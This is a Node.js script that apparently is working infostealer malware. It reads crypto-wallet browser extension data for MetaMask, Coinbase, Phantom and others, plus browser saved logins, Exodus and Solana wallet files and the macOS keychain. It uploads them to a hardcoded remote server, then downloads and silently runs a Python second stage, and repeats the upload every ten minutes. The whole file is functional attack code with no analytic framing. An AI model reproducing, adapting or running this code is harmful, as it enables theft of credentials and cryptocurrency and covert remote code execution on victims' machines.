const fs = require("fs"), os = require("os"), path = require("path"), request = require("http");
const hs = os.hostname(), pl = os.platform(), hd = os.homedir(), td = os.tmpdir();
const c = "http://198.51.100.91:1224";
const wallets = [
  "nkbihfbeogaeaoehlefnkodbefgpgknn", // MetaMask
  "ejbalbakoplchlghecdalmeeeajnimhm", // MetaMask (Edge)
  "fhbohimaelbohpjbbldcngcnapndodjp", // Binance Chain Wallet
  "hnfanknocfeofbddgcijnmhnfnkdnaad", // Coinbase Wallet
  "ibnejdfjmmkpcnlpebklmnkoeoihofec", // TronLink
  "bfnaelmomeimhlpmgjnjophhpkkoljpa", // Phantom
];
const profiles = (b) => {
  const base = pl === "darwin" ? path.join(hd, "Library/Application Support", b) : pl === "win32" ? path.join(process.env.LOCALAPPDATA || hd, b, "User Data") : path.join(hd, ".config", b);
  const out = [];
  for (let i = 0; i < 200; i++) out.push(path.join(base, i === 0 ? "Default" : "Profile " + i));
  return out;
};
const collect = () => {
  const files = [];
  for (const browser of ["Google/Chrome", "BraveSoftware/Brave-Browser", "Opera Software/Opera Stable"]) {
    for (const p of profiles(browser)) {
      for (const id of wallets) {
        const dir = path.join(p, "Local Extension Settings", id);
        if (!fs.existsSync(dir)) continue;
        for (const f of fs.readdirSync(dir)) {
          if (f.endsWith(".log") || f.endsWith(".ldb")) files.push({ name: id + "_" + f, value: fs.createReadStream(path.join(dir, f)) });
        }
      }
      const login = path.join(p, "Login Data");
      if (fs.existsSync(login)) files.push({ name: "login_" + path.basename(p), value: fs.createReadStream(login) });
    }
  }
  const exodus = pl === "win32" ? path.join(process.env.APPDATA || hd, "Exodus", "exodus.wallet") : path.join(hd, ".config", "Exodus", "exodus.wallet");
  if (fs.existsSync(exodus)) for (const f of fs.readdirSync(exodus)) files.push({ name: "exodus_" + f, value: fs.createReadStream(path.join(exodus, f)) });
  const solana = path.join(hd, ".config", "solana", "id.json");
  if (fs.existsSync(solana)) files.push({ name: "solana_id.json", value: fs.createReadStream(solana) });
  if (pl === "darwin") {
    const keychain = path.join(hd, "Library/Keychains/login.keychain-db");
    if (fs.existsSync(keychain)) files.push({ name: "logkc-db", value: fs.createReadStream(keychain) });
  }
  return files;
};
const upload = (files) => {
  const boundary = "----" + Date.now();
  const req = request.request(c + "/uploads", { method: "POST", headers: { "Content-Type": "multipart/form-data; boundary=" + boundary } });
  req.on("error", () => {});
  req.write(`--${boundary}\r\nContent-Disposition: form-data; name="hid"\r\n\r\n${hs}\r\n`);
  (function next(i) {
    if (i >= files.length) return req.end(`--${boundary}--\r\n`);
    req.write(`--${boundary}\r\nContent-Disposition: form-data; name="multi_file"; filename="${files[i].name}"\r\n\r\n`);
    files[i].value.on("end", () => { req.write("\r\n"); next(i + 1); }).pipe(req, { end: false });
  })(0);
};
const stage2 = () => {
  // second stage ("InvisibleFerret") fetched as Python and started in the background
  request.get(c + "/client/99/1", (r) => {
    const f = path.join(hd, ".npl");
    r.pipe(fs.createWriteStream(f)).on("finish", () => require("child_process").exec(`python3 "${f}"`, { windowsHide: true }));
  }).on("error", () => {});
};
try { upload(collect()); stage2(); } catch (e) {}
setInterval(() => { try { upload(collect()); } catch (e) {} }, 600000).unref();
